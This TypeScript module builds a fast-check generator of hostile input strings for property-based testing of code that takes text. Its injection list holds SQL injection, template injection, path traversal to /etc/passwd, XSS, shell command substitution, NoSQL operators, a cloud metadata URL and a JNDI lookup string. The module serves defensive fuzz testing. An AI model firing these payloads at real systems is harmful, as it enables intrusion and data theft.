/** Values that nobody means well by, for whatever takes text. As bytes in latin1, so that broken UTF-8 can be among them. */
import fc from 'fast-check'

/** What a text is as bytes on the wire, one character each. */
const utf8 = (text: string) => Buffer.from(text, 'utf8').toString('latin1')

const CONTROLS = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\t',
  '\u001b[31m',
  '\u007f',
  '\u0080',
  '\u0085',
  '\u009f',
  '\u00ad',
  '\u200b',
  '\u200f',
  '\u2028',
  '\u202e',
  '\u2066',
  '\ufeff',
  '\ufffe',
  '\u{1f600}',
  'i\u0307',
  'ß',
  'ﬁ',
  '\u0301'.repeat(50),
].map(utf8)

const BROKEN_UTF8 = [
  '\x80',
  '\xc0\x80',
  '\xc3',
  '\xed\xa0\x80',
  '\xf4\x90\x80\x80',
  '\xff\xfe',
  '\xe2\x82',
  '\xf0\x9f',
]

const NUMBERS = [
  ...[
    '0',
    '-0',
    '-1',
    '1',
    '00',
    '01',
    '+1',
    '1.0',
    '1.5',
    '1e1',
    '1e400',
    '0x10',
    '0b1',
    '１',
    '1_0',
    '1 ',
    ' 1',
    '1,5',
  ],
  ...['NaN', 'Infinity', '-Infinity', 'null', 'undefined', 'true', '2147483647', '2147483648', '4294967296'],
  ...[
    '9007199254740991',
    '9007199254740993',
    '9223372036854775807',
    '9223372036854775808',
    '-9223372036854775809',
  ],
  '9'.repeat(400),
].map(utf8)

const DATES = [
  ...[
    '2025-01-01',
    '2025-01-31',
    '2025-02-29',
    '2024-02-29',
    '2025-02-30',
    '2025-13-01',
    '2025-00-10',
    '2025-1-1',
  ],
  ...[
    '0000-01-01',
    '0001-01-01',
    '-0001-01-01',
    '1582-10-10',
    '1899-12-31',
    '9999-12-31',
    '10000-01-01',
    '+012025-01-01',
  ],
  ...['2025-01-01T00:00:00Z', '2025-01-01T24:00:00Z', '2025-01-01T23:59:60Z', '2025-01-01T00:00:00+99:00'],
  ...[
    '2025-01-01T00:00:00+14:00',
    '2025-01-01T00:00:00-12:00',
    '2025-03-30T03:30',
    '2025-01-01T00:00:00.123456789Z',
  ],
  ...[
    '2025-01-01 00:00',
    '20250101',
    '2025-W01',
    '2025-001',
    '01/01/2025',
    '1735689600',
    'now',
    'today',
    'infinity',
    '-infinity',
  ],
  ...[
    'epoch',
    'tomorrow',
    '2025-01-01T00:00:00[Europe/Oslo]',
    '２０２５-01-01',
    '271821-04-20',
    '-271821-04-19',
    'BC',
    '2025-01-01 BC',
  ],
].map(utf8)

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  '__defineGetter__',
  'length',
]

/** From the lists that scanners go through. */
const INJECTIONS = [
  ...[
    "'",
    "' or '1'='1",
    "'; drop table guests; --",
    "1' and pg_sleep(10)--",
    "' union select secret_hash from api_keys--",
  ],
  ...[
    '"',
    '`',
    '\\',
    '$1',
    '\x24{7*7}',
    '{{7*7}}',
    '%s%n',
    '%00',
    '%2e%2e%2f',
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
  ],
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '$(sleep 10)',
    '`id`',
    '; id',
    '|id',
  ],
  ...[
    '{"$ne": null}',
    '[$ne]=1',
    '*',
    '%',
    '_',
    '.*',
    '(a+)+$',
    '^',
    '!@#',
    '\\u0000',
    '&startDate=2025-01-01',
    '#x',
    'a=b',
    '//evil',
  ],
  ...[
    'file:///etc/passwd',
    'http://169.254.169.254/',
    '\x24{jndi:ldap://x/a}',
    'W/"x"',
    '"',
    '""',
    ',',
    ',,',
    'a,',
    ',a',
    ';',
    '=',
    '?',
  ],
].map(utf8)

const LONG = [
  ...[100, 1000, 8000, 100_000].map((length) => 'a'.repeat(length)),
  ...[10, 1000, 10_000].map((count) => Array.from({ length: count }, (_, at) => `x${at}`).join(',')),
  ','.repeat(10_000),
  '%'.repeat(3000),
  ' '.repeat(7000),
  '9'.repeat(5000),
  '('.repeat(3000),
  'a@'.repeat(3000),
  'W/"a",'.repeat(1500),
]

const oneOf = (values: readonly string[]) => fc.constantFrom(...values)

/** Any of them, or a few joined, which is how one hides in another. */
export const nastyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: oneOf(CONTROLS) },
  { weight: 3, arbitrary: oneOf(BROKEN_UTF8) },
  { weight: 5, arbitrary: oneOf(NUMBERS) },
  { weight: 6, arbitrary: oneOf(DATES) },
  { weight: 3, arbitrary: oneOf(NAMES) },
  { weight: 5, arbitrary: oneOf(INJECTIONS) },
  { weight: 1, arbitrary: oneOf(LONG) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }).map(utf8) },
  { weight: 1, arbitrary: fc.constant('') },
  {
    weight: 3,
    arbitrary: fc
      .array(oneOf([...CONTROLS, ...BROKEN_UTF8, ...NUMBERS, ...DATES, ...NAMES, ...INJECTIONS]), {
        minLength: 2,
        maxLength: 4,
      })
      .map((parts) => parts.join('')),
  },
)
